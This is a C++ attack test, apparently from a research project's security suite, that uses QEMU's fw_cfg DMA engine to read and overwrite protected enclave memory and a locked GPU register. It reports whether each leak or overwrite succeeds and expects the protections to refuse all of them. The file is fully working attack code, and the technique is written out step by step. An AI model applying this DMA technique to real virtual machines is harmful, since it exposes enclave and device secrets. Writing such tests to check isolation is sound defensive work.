// Attack (f'): DMA by a platform device that is not a PCI bus master: QEMU's
// fw_cfg DMA interface (ports 0x510/0x514, QEMU docs/specs/fw_cfg.rst). Its
// engine reads a descriptor from guest memory and copies between a fw_cfg
// item and any guest-physical address. "etc/smi/requested-features" is a
// writable 8-byte item, so root can copy EPC into it and read it out (a
// read of enclave memory), put chosen bytes in it and copy them into EPC (a
// write), and do the same with the locked BAR's SCRATCH.
// Expected with HIX enforcing (docs/architecture.md §4.3: no device may DMA
// into EPC; spec §13, §15): the enclave page is neither read nor written, and
// the BAR accesses are refused (bar-untagged: the device frontend sees an
// access without the owner's tag).
// Run under `hix-gpu-owner --serve SOCKET --run ...` (for the BAR paths).
#include <endian.h>
#include <sys/io.h>

#include <cstring>
#include <string>

#include "lockdown_common.hpp"

namespace {

using namespace hix::lockdown;
using hix::attacks::AttackDevice;
using hix::attacks::Secret;

constexpr const char* kProperty = "dma-fwcfg";

// fw_cfg's x86 I/O interface (fw_cfg.rst).
constexpr unsigned short kSelector = 0x510;
constexpr unsigned short kData = 0x511;
constexpr unsigned short kDmaHigh = 0x514;
constexpr unsigned short kDmaLow = 0x518;
constexpr std::uint16_t kItemId = 0x0001;
constexpr std::uint16_t kItemFileDir = 0x0019;
constexpr std::uint32_t kIdDma = 0x2;
constexpr std::uint32_t kCtlError = 0x01;
constexpr std::uint32_t kCtlRead = 0x02;  // item -> memory
constexpr std::uint32_t kCtlSelect = 0x08;
constexpr std::uint32_t kCtlWrite = 0x10;  // memory -> item
constexpr const char* kWritableItem = "etc/smi/requested-features";
constexpr std::size_t kItemSize = 8;

// FWCfgDmaAccess, big-endian on the wire.
struct DmaAccess {
  std::uint32_t control;
  std::uint32_t length;
  std::uint64_t address;
};
static_assert(sizeof(DmaAccess) == 16);

class FwCfg {
 public:
  FwCfg(AttackDevice& dev, int fd) : fd_(fd), descriptor_(dev.marked_page(0)) {}

  void select(std::uint16_t item) { outw(item, kSelector); }
  void read_data(std::uint8_t* out, std::size_t n) {
    for (std::size_t i = 0; i < n; ++i) out[i] = inb(kData);
  }
  // reinterpret_cast: a word's wire bytes; the item says which byte order.
  std::uint32_t read_be32() {
    std::uint32_t v = 0;
    read_data(reinterpret_cast<std::uint8_t*>(&v), sizeof v);
    return be32toh(v);
  }
  std::uint32_t read_le32() {
    std::uint32_t v = 0;
    read_data(reinterpret_cast<std::uint8_t*>(&v), sizeof v);
    return le32toh(v);
  }
  // The selector of a named item, from the file directory.
  std::optional<std::uint16_t> find(const char* name) {
    select(kItemFileDir);
    const std::uint32_t count = read_be32();
    for (std::uint32_t i = 0; i < count && i < 1024; ++i) {
      struct {
        std::uint32_t size;
        std::uint16_t select;
        std::uint16_t reserved;
        char name[56];
      } f{};
      read_data(reinterpret_cast<std::uint8_t*>(&f), sizeof f);  // the directory's wire entry
      if (std::strncmp(f.name, name, sizeof f.name) == 0) return be16toh(f.select);
    }
    return std::nullopt;
  }
  // One DMA transfer of `length` bytes between `item` and `phys`; true when
  // the engine reports no error.
  bool dma(std::uint16_t item, std::uint32_t direction, std::uint64_t phys, std::uint32_t length) {
    const DmaAccess d{htobe32(static_cast<std::uint32_t>(item) << 16 | kCtlSelect | direction),
                      htobe32(length), htobe64(phys)};
    write_phys(descriptor_, &d, sizeof d);
    outl(htobe32(static_cast<std::uint32_t>(descriptor_ >> 32)), kDmaHigh);
    outl(htobe32(static_cast<std::uint32_t>(descriptor_)), kDmaLow);  // starts it
    DmaAccess done{};
    read_phys(descriptor_, &done, sizeof done);
    return (be32toh(done.control) & kCtlError) == 0;
  }
  void write_phys(std::uint64_t phys, const void* data, std::size_t n) {
    // reinterpret_cast: the ioctl ABI carries user pointers as integers.
    hix_attack_phys_rw req{phys, n, reinterpret_cast<std::uint64_t>(data)};
    if (::ioctl(fd_, HIX_ATTACK_WRITE_PHYS_DIRECT, &req) != 0) hix::attacks::fail("WRITE_PHYS");
  }
  void read_phys(std::uint64_t phys, void* data, std::size_t n) {
    // reinterpret_cast: the ioctl ABI carries user pointers as integers.
    hix_attack_phys_rw req{phys, n, reinterpret_cast<std::uint64_t>(data)};
    if (::ioctl(fd_, HIX_ATTACK_READ_PHYS_DIRECT, &req) != 0) hix::attacks::fail("READ_PHYS");
  }

 private:
  int fd_;
  std::uint64_t descriptor_;  // attacker RAM holding the DMA descriptor
};

std::string hex(const std::uint8_t* p, std::size_t n) {
  std::string s;
  char b[3];
  for (std::size_t i = 0; i < n; ++i) {
    std::snprintf(b, sizeof b, "%02x", p[i]);
    s += b;
  }
  return s;
}

}  // namespace

int main() {
  if (ioperm(kSelector, 12, 1) != 0) hix::attacks::fail("ioperm 0x510: %s", std::strerror(errno));
  OwnerClient owner = OwnerClient::connect();
  const PciFunction gpu = require_hix_gpu();
  const auto bar0 = bar_resource(gpu, 0);
  if (!bar0) hix::attacks::fail("hix-gpu BAR0 unassigned");
  const std::uint64_t scratch = bar0->base + hix::gpu::offset_of(Reg32::scratch).value;

  loader::Enclave vault = hix::attacks::load_enclave(hix::attacks::kVaultImage);
  const Secret secret = hix::attacks::random_secret();
  const std::uint64_t vault_page = hix::attacks::plant(vault, secret);
  AttackDevice dev;
  const std::uint64_t epc = dev.virt_to_phys(vault_page);
  const int fd = ::open(HIX_ATTACK_DEVICE, O_RDWR | O_CLOEXEC);
  if (fd < 0) hix::attacks::fail("%s: %s", HIX_ATTACK_DEVICE, std::strerror(errno));
  FwCfg fw(dev, fd);

  fw.select(kItemId);
  const std::uint32_t features = fw.read_le32();  // FW_CFG_ID is little-endian
  const auto item = fw.find(kWritableItem);
  if ((features & kIdDma) == 0 || !item) {
    report({.property = kProperty, .path = "fwcfg", .outcome = "refused"},
           "features=0x%08x item=%s", features, item ? "found" : "missing");
    return 0;
  }
  std::array<std::uint8_t, kItemSize> saved{};
  fw.select(*item);
  fw.read_data(saved.data(), saved.size());
  const std::uint64_t staging = dev.marked_page(0);

  {  // EPC -> item -> port reads: the first 16 bytes of the secret.
    std::array<std::uint8_t, 2 * kItemSize> seen{};
    bool ok = true;
    for (std::size_t part = 0; part < 2; ++part) {
      ok = fw.dma(*item, kCtlWrite, epc + part * kItemSize, kItemSize) && ok;
      fw.select(*item);
      fw.read_data(seen.data() + part * kItemSize, kItemSize);
    }
    const bool leaked = std::memcmp(seen.data(), secret.data(), seen.size()) == 0;
    report({.property = kProperty, .path = "epc-to-item", .outcome = outcome(leaked)},
           "bytes=%s dma_ok=%s epc=0x%llx", hex(seen.data(), seen.size()).c_str(),
           ok ? "yes" : "no", static_cast<unsigned long long>(epc));
  }
  {  // Chosen bytes -> item -> EPC.
    std::array<std::uint8_t, kItemSize> chosen{};
    chosen.fill(0x5A);
    fw.write_phys(staging, chosen.data(), chosen.size());
    const bool staged = fw.dma(*item, kCtlWrite, staging, kItemSize);
    const bool ok = fw.dma(*item, kCtlRead, epc, kItemSize);
    Secret now{};
    const bool loaded = hix::attacks::ecall(vault, VAULT_ECALL_LOAD, now).succeeded();
    const bool overwritten = loaded && std::memcmp(now.data(), chosen.data(), chosen.size()) == 0;
    report({.property = kProperty,
            .path = "item-to-epc",
            .outcome = outcome(overwritten || (loaded && now != secret))},
           "vault=%s staged=%s dma_ok=%s epc=0x%llx",
           !loaded         ? "unreadable"
           : now == secret ? "intact"
           : overwritten   ? "chosen"
                           : "other",
           staged ? "yes" : "no", ok ? "yes" : "no", static_cast<unsigned long long>(epc));
  }
  {  // SCRATCH -> item -> port reads.
    const std::uint32_t owner_secret = plant_secret(owner);
    const bool ok = fw.dma(*item, kCtlWrite, scratch, 4);
    std::uint32_t word = 0;
    fw.select(*item);
    fw.read_data(reinterpret_cast<std::uint8_t*>(&word), sizeof word);  // little-endian register
    report({.property = kProperty, .path = "bar-to-item", .outcome = outcome(word == owner_secret)},
           "word=0x%08x secret=0x%08x dma_ok=%s target=0x%llx", word, owner_secret,
           ok ? "yes" : "no", static_cast<unsigned long long>(scratch));
  }
  {  // Chosen word -> item -> SCRATCH.
    const std::uint32_t owner_secret = plant_secret(owner);
    const std::uint32_t chosen = owner_secret ^ 0x5A5A5A5Au;
    fw.write_phys(staging, &chosen, sizeof chosen);
    const bool staged = fw.dma(*item, kCtlWrite, staging, sizeof chosen);
    const bool ok = fw.dma(*item, kCtlRead, scratch, sizeof chosen);
    const auto after = owner.read(Reg32::scratch);
    report({.property = kProperty, .path = "item-to-bar", .outcome = outcome(after == chosen)},
           "owner_after=%s secret=0x%08x chosen=0x%08x staged=%s dma_ok=%s target=0x%llx",
           OwnerValue(after).c_str(), owner_secret, chosen, staged ? "yes" : "no",
           ok ? "yes" : "no", static_cast<unsigned long long>(scratch));
  }
  // Leave the firmware's negotiation state as it was.
  fw.write_phys(staging, saved.data(), saved.size());
  (void)fw.dma(*item, kCtlWrite, staging, kItemSize);
  ::close(fd);
  return 0;
}
